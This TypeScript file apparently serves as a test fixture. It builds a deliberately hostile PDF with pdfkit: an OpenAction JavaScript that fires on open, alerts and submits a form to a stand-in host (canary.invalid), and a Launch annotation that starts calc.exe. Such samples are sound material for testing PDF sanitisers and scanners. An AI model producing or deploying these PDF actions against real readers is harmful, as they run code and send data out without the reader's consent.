import PdfDocument from 'pdfkit';

/** A file that would run a script when it is opened, go elsewhere, and start a program. */
export function hostilePdf(words: string): Promise<Uint8Array> {
  const pdf = new PdfDocument({ size: 'A4' });
  const pieces: Buffer[] = [];
  pdf.on('data', (piece: Buffer) => pieces.push(piece));
  const done = new Promise<Buffer>((resolve) => pdf.on('end', () => resolve(Buffer.concat(pieces))));
  const action = pdf.ref({
    S: 'JavaScript',
    JS: 'app.alert(1); this.submitForm("https://canary.invalid/");',
  });
  action.end('');
  // What pdfkit has no call for: the document's own dictionary.
  const { _root: root } = pdf as unknown as { readonly _root: { readonly data: Record<string, unknown> } };
  root.data['OpenAction'] = action;
  pdf.text(words, 72, 72).link(72, 60, 400, 40, 'https://canary.invalid/link');
  // It knows no such action either.
  pdf.annotate(72, 120, 300, 40, { Subtype: 'Link', A: { S: 'Launch', F: 'calc.exe' } } as object);
  pdf.end();
  return done;
}
